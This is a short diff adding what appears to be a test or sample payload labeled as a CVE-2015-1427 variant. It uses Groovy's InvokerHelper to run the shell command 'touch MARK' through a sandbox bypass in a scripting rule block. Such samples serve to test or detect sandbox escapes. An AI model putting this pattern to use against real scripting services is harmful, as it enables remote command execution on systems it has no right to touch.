@@ -1,0 +1,8 @@
+// CVE-2015-1427 family
+// Groovy's own runtime calls by name
+event X {
+    on { 'a' }
+    as {
+        org.codehaus.groovy.runtime.InvokerHelper.invokeMethod('touch MARK', 'execute', null)
+    }
+}
